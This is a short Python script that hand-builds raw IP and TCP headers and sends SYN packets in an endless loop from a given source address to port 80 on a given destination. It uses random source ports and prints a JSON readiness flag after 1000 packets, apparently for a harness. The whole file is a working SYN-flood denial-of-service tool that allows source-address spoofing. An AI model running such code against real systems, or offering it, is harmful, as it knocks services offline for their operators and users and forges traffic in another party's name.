"""Send SYNs from one address to another by a raw socket until killed; ports are random."""

import json
import random
import socket
import struct
import sys
from itertools import count


def main() -> None:
    source, destination = sys.argv[1:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        addresses = socket.inet_aton(source) + socket.inet_aton(destination)
        header = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses
        for sent in count():
            port, number = random.randrange(1024, 65536), random.getrandbits(32)
            tcp = struct.pack("!HHIIBBHHH", port, 80, number, 0, 0x50, 2, 1024, 0, 0)
            raw.sendto(header + tcp, (destination, 0))
            if sent == 1000:
                print(json.dumps({"ready": True}), flush=True)


if __name__ == "__main__":
    main()
